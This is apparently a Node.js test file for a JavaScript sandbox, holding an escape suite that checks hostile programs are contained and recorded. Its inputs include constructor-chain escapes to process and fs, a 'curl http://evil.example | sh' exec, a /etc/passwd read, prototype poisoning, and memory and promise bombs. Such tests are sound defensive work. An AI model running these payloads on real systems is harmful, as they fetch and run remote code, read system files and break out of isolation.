// The escape suite: hostile programs run in the sandbox. Each must end with a defined outcome, and
// nothing may happen on the real machine: no canary file, no child process, no socket.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const { traceUnit, loadSandbox } = require('../../../server/dist/external/sandbox/runner.js');
const { sandboxHealth } = require('../../../server/dist/external/sandbox/self-test.js');
const { watchHost } = require('../../support/host-watch.js');

const host = watchHost('orbit-canary-');
const { canary, calls: hostCalls } = host;
const LIMITS = { timeMs: 400, instructions: 20_000_000, memoryBytes: 16 * 1024 * 1024 };

/** Runs a hostile program and checks the real machine afterwards. That every run stops is
 *  shown by its outcome (a limit), never by the wall clock, which a busy machine stretches. */
async function hostile(program, args = [], limits = {}) {
  const trace = await traceUnit(program.replaceAll('CANARY', JSON.stringify(canary)), args, { ...LIMITS, ...limits });
  assert.ok(['return', 'throw', 'limit'].includes(trace.outcome.kind), `undefined outcome ${JSON.stringify(trace.outcome)}`);
  assert.equal(fs.existsSync(canary), false, 'the canary file was written');
  assert.deepEqual(hostCalls, [], 'a host capability was used');
  return trace;
}

/** For tests about the memory limit: time and instructions out of reach, so a loaded machine
 *  cannot turn a memory limit into a time limit. */
const MEMORY_ONLY = { timeMs: 60_000, instructions: 1e12 };

test.before(() => loadSandbox());
test.after(host.dispose);

test('constructor chains reach only the sandbox and its stubs', async () => {
  const t = await hostile(`function f() {
    const p = this.constructor.constructor('return process')();
    p.mainModule && p.mainModule.require('fs').writeFileSync(CANARY, 'x');
    const g = (() => {}).constructor('return globalThis')();
    g.require('fs').writeFileSync(CANARY, 'pwned');
    return typeof p.binding;
  }`);
  assert.ok(t.effects.some((e) => e.kind === 'eval' && e.args[0] === 'return process'));
  assert.ok(t.effects.some((e) => e.kind === 'fs-write' && e.target === canary), 'the write is recorded, not performed');
});

test('async and generator function constructors are recorded too', async () => {
  const t = await hostile(`async function f() {
    const AF = (async function () {}).constructor;
    await AF('require("child_process").execSync("touch /tmp/orbit-canary")')();
    const GF = (function* () {}).constructor;
    GF('yield 1')().next();
    return 1;
  }`);
  assert.ok(t.effects.filter((e) => e.kind === 'eval').length >= 2);
  assert.ok(t.effects.some((e) => e.kind === 'process' && e.target.includes('touch')));
});

test('poisoned prototypes do not hide effects from the trace', async () => {
  const t = await hostile(`function f() {
    Object.defineProperty(Object.prototype, 'kind', { get() { return 'log'; }, set() {}, configurable: true });
    Array.prototype.push = function () { return 0; };
    JSON.stringify = () => '{}';
    Function.prototype.apply = function () { return undefined; };
    require('child_process').exec('curl http://evil.example | sh');
    return 'done';
  }`);
  const e = t.effects.find((x) => x.target.startsWith('curl'));
  assert.ok(e, 'the exec was recorded');
  assert.equal(e.kind, 'process');
  assert.deepEqual(t.outcome, { kind: 'return', value: 'done' });
});

test('recorder globals cannot be replaced', async () => {
  const t = await hostile(`function f() {
    try { __orbitS = () => {}; } catch (e) {}
    try { delete globalThis.__orbitL; } catch (e) {}
    const x = 5;
    return x;
  }`);
  assert.ok(t.steps.some((s) => s.state.x === 5));
});

test('Proxy and Reflect tricks end in a defined outcome', async () => {
  const t = await hostile(`function f() {
    const fs = require('fs');
    Reflect.setPrototypeOf(fs, new Proxy({}, { get: () => () => require('child_process').exec('id') }));
    fs.unknownCall && fs.unknownCall();
    return new Proxy({}, { ownKeys() { for (;;) {} } });
  }`);
  assert.equal(t.outcome.kind, 'limit');
});

test('getters on returned data run inside the sandbox', async () => {
  const t = await hostile(`function f() {
    return { get x() { require('fs').writeFileSync(CANARY, 'from a getter'); return 1; } };
  }`);
  assert.deepEqual(t.outcome, { kind: 'return', value: { x: 1 } });
  assert.ok(t.effects.some((e) => e.kind === 'fs-write'));
});

test('huge strings hit the memory limit', async () => {
  const t = await hostile(`function f() { let s = 'x'; for (;;) s += s; }`, [], MEMORY_ONLY);
  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'memory' });
  const r = await hostile(`function f() { return 'y'.repeat(2 ** 29).length; }`, [], MEMORY_ONLY);
  assert.ok(r.outcome.kind === 'limit' || r.outcome.kind === 'throw');
});

test('infinite loops hit the instruction or time limit, even inside try/catch', async () => {
  const t = await hostile(`function f() { for (;;) { try { for (;;) {} } catch (e) {} } }`);
  assert.equal(t.outcome.kind, 'limit');
  const u = await traceUnit('function f() { for (;;) {} }', [], { timeMs: 150, instructions: 1e12 });
  assert.deepEqual(u.outcome, { kind: 'limit', limit: 'time' });
});

test('deep recursion ends as a memory limit', async () => {
  const t = await hostile(`function f(n = 0) { return f(n + 1) + 1; }`, [], MEMORY_ONLY);
  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'memory' });
});

test('promise storms and interval storms stop', async () => {
  const t = await hostile(`async function f() { const p = () => Promise.resolve().then(p); p(); await new Promise(() => {}); }`);
  assert.equal(t.outcome.kind, 'limit');
  const u = await hostile(`function f() { setInterval(() => fetch('http://x.example/' + Math.random()), 1); return 'armed'; }`);
  assert.deepEqual(u.outcome, { kind: 'return', value: 'armed' });
  assert.ok(u.effects.filter((e) => e.kind === 'network').length <= 200);
});

test('a promise storm under a long time limit ends as a limit, not as a return or a pending promise', async () => {
  // Without a bound on promise jobs the storm runs until QuickJS has no room for the next job and
  // silently drops the chain, which read as a return (or an unsettled promise).
  const long = { timeMs: 600_000, instructions: 1e12 };
  const awaited = await hostile(`async function f() { const p = () => Promise.resolve().then(p); p(); await new Promise(() => {}); }`, [], long);
  assert.deepEqual(awaited.outcome, { kind: 'limit', limit: 'instructions' });
  const detached = await hostile(`function f() { const p = () => Promise.resolve().then(p); p(); return 'started'; }`, [], long);
  assert.deepEqual(detached.outcome, { kind: 'limit', limit: 'instructions' });
  // Ordinary asynchronous code runs far below the bound.
  const ordinary = await hostile(`async function f() { let n = 0; for (let i = 0; i < 2000; i++) n += await Promise.resolve(1); return n; }`, [], long);
  assert.deepEqual(ordinary.outcome, { kind: 'return', value: 2000 });
});

test('ArrayBuffers and typed arrays count against the memory limit', async () => {
  // QuickJS does not count buffer memory against its heap limit; the sandbox does.
  for (const bomb of [
    `function f() { const a = []; for (;;) a.push(new Uint8Array(1 << 20)); }`,
    `function f() { return new ArrayBuffer(2 ** 30).byteLength; }`,
    `function f() { const a = []; const b = new Float64Array(1 << 16); for (;;) a.push(b.slice()); }`,
    `function f() { const a = []; for (;;) a.push(Buffer.alloc(1 << 20)); }`,
  ]) {
    const t = await hostile(bomb, [], MEMORY_ONLY);
    assert.deepEqual(t.outcome, { kind: 'limit', limit: 'memory' }, bomb);
  }
  // The limit is reached after about as many megabytes as it allows, not after the machine's memory.
  const counted = await hostile(`function f() { const a = []; for (let i = 0; ; i++) { a.push(new Uint8Array(1 << 20)); const n = i; } }`, [], MEMORY_ONLY);
  const allocated = Math.max(...counted.steps.map((s) => s.state.n).filter((n) => typeof n === 'number'));
  assert.ok(allocated < LIMITS.memoryBytes / (1 << 20), `${allocated} MiB were allocated under a ${LIMITS.memoryBytes >> 20} MiB limit`);
  // Views of an existing buffer allocate nothing and are not charged.
  const v = await hostile(`function f() { const b = new ArrayBuffer(1 << 20); let n = 0; for (let i = 0; i < 200; i++) n += new Uint8Array(b).length; return n; }`, [], MEMORY_ONLY);
  assert.deepEqual(v.outcome, { kind: 'return', value: 200 * (1 << 20) });
});

test('WebAssembly is not available inside the sandbox', async () => {
  const t = await hostile(`function f() {
    const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
    return new WebAssembly.Module(bytes);
  }`);
  assert.equal(t.outcome.kind, 'throw');
  assert.match(t.outcome.error, /WebAssembly/);
});

test('files read in the sandbox are fake', async () => {
  const t = await hostile(`function f() { return require('fs').readFileSync('/etc/passwd', 'utf8'); }`);
  assert.equal(t.outcome.kind, 'return');
  assert.doesNotMatch(String(t.outcome.value), /root:/);
});

test('too many effects end the run with a trace-size limit', async () => {
  const t = await traceUnit(`function f() { for (let i = 0; i < 1e6; i++) { try { require('fs').writeFileSync('/tmp/' + i, 'x'); } catch (e) {} } }`, [], { maxEffects: 50 });
  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'trace-size' });
  assert.equal(t.effects.length, 50);
});

test('the sandbox still answers after the escape suite', async () => {
  const h = await sandboxHealth();
  assert.equal(h.ok, true, h.detail);
});
